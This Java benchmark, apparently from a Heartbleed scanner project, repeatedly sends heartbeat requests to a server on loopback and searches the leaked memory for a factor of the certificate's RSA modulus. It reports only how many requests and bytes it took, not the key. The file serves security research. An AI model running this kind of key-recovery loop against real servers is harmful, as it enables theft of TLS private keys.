import io.heartguard.keys.FactorSearch;
import io.heartguard.keys.KeyRecovery;
import io.heartguard.scan.HeartbleedCheck;
import io.heartguard.scan.ScanOptions;
import io.heartguard.scan.ScanResult;
import io.heartguard.scan.Target;
import io.heartguard.scan.Verdict;
import java.io.ByteArrayOutputStream;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;

/**
 * How many Heartbleed requests does a key take? Against a server of ours on loopback (AUTHORIZED TESTING ONLY):
 * connections of REQUESTS full-record requests each (scan --dump's), every leak searched in memory for a factor of
 * CERT's modulus, until one is found or MAX_CONNECTIONS is reached. Prints counts and the search's speed over the
 * real leaked bytes; never the bytes or the key.
 *
 * <p>Usage: java -cp CP bench/keys/KeyHunt.java HOST:PORT CERT.pem MAX_CONNECTIONS REQUESTS
 */
public final class KeyHunt {
  public static void main(String[] args) throws Exception {
    Target target = Target.parse(args[0]);
    var key = KeyRecovery.certificateKey(Path.of(args[1]));
    int maxConnections = Integer.parseInt(args[2]);
    int requests = Integer.parseInt(args[3]);
    FactorSearch search = new FactorSearch(key.getModulus());
    long leakedBytes = 0;
    long searchNanos = 0;
    int sent = 0;
    for (int c = 1; c <= maxConnections; c++) {
      ByteArrayOutputStream leaked = new ByteArrayOutputStream();
      ScanResult result = new HeartbleedCheck().check(target, ScanOptions.defaults().withTimeout(Duration.ofSeconds(10))
          .withDump((t, bytes, offset, length) -> leaked.write(bytes, offset, length), requests));
      if (result.verdict() != Verdict.VULNERABLE) {
        System.out.println("connection " + c + ": " + result.verdict() + " " + result.reason());
        continue;
      }
      sent += 2 + (result.dump() == null ? 0 : result.dump().responses()); // the oracle's two, then the dump's
      byte[] data = leaked.toByteArray();
      leakedBytes += data.length;
      long t0 = System.nanoTime();
      FactorSearch.Found found = search.search(data);
      searchNanos += System.nanoTime() - t0;
      java.util.Arrays.fill(data, (byte) 0);
      if (found != null) {
        System.out.printf("FOUND after %d connections, %d heartbeat requests, %d leaked bytes: offset %d of connection"
            + " %d's leak, %s, %d bits%n", c, sent, leakedBytes, found.offset(), c, found.order().label(),
            found.prime().bitLength());
        report(leakedBytes, searchNanos);
        return;
      }
      if (c % 50 == 0) {
        System.out.printf("%d connections, %d requests, %d leaked bytes, nothing yet%n", c, sent, leakedBytes);
      }
    }
    System.out.printf("NOT FOUND within %d connections, %d heartbeat requests, %d leaked bytes%n", maxConnections,
        sent, leakedBytes);
    report(leakedBytes, searchNanos);
  }

  private static void report(long bytes, long nanos) {
    System.out.printf("search over the real leaked bytes: %.1f MB/s (%d bytes in %.3f s, one core)%n",
        bytes / 1e6 / (nanos / 1e9), bytes, nanos / 1e9);
  }
}
